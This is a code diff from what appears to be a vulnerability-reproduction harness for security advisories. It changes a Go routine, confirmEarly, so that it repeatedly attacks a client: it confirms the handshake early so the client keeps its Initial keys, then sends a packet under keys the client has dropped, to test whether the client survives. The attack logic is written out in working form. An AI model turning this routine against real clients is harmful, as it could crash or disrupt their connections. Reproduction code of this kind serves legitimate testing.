@@ -9,10 +9,26 @@ import (
 	"github.com/matrixrun/matrixrun/matrix/suites/advisories/repro/wire"
 )
 
-// confirmEarly confirms the handshake in the datagram with the server's part of it, so
-// that the client never sends a Handshake packet of its own and keeps the keys of Initial
-// packets. Then it sends a packet whose keys the client has dropped.
+// Attempts is how often confirmEarly attacks: until v0.36 it depends on how fast the
+// client's TLS is whether one attempt has an effect.
+const Attempts = 25
+
+// confirmEarly attacks the connections of a client that dials again and again.
 func confirmEarly(t *trial, s *attacker.Server) error {
+	for ; t.proof.Attempts < Attempts; t.proof.Attempts++ {
+		if err := confirmOnce(t, s); err != nil {
+			return err
+		}
+	}
+	t.proof.Delivered = true
+	return nil
+}
+
+// confirmOnce confirms the handshake in the datagram with the server's part of it, so
+// that the client never sends a Handshake packet of its own and keeps the keys of Initial
+// packets. Then it sends a packet whose keys the client has dropped. Datagrams stay in
+// order on loopback, so what the client does after that shows that it has survived.
+func confirmOnce(t *trial, s *attacker.Server) error {
 	c, err := s.Accept(t.ctx, Protocol, []byte{wire.TypeHandshakeDone})
 	if err != nil {
 		return err
@@ -24,9 +40,8 @@ func confirmEarly(t *trial, s *attacker.Server) error {
 	if err != nil {
 		return err
 	}
-	t.proof.Delivered = true // datagrams stay in order on loopback
 	if err := c.Write(t.ctx, 0, data, true); err != nil {
-		return err
+		return ignoreClose(err)
 	}
 	_, err = t.victim.Await(func(e victim.Event) bool { return e.Answered == string(data) })
 	return err
